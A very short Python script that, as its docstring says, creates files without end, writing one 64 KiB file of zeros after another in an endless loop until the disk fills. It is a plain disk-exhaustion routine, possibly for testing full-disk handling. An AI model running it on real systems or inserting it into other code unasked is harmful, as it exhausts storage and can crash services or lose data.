"""Makes files without end."""

import itertools

for number in itertools.count():
    with open("file-%d" % number, "wb") as file:
        file.write(bytes(64 << 10))
